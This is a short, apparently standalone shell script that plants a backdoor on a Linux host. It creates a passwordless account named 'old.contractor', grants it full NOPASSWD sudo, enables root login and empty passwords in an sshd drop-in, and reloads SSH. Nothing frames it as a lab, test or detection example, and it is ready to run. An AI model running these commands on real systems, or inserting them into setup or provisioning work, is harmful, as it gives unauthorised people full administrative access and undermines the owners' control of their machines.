# An account that nobody answers for, root over SSH, and every command without a password.
set -eu
useradd --create-home --shell /bin/bash old.contractor
passwd --quiet --delete old.contractor
echo 'old.contractor ALL=(ALL:ALL) NOPASSWD: ALL' | install -m 0440 /dev/stdin /etc/sudoers.d/old
printf 'PermitRootLogin yes\nPermitEmptyPasswords yes\n' >/etc/ssh/sshd_config.d/00-old.conf
systemctl reload ssh
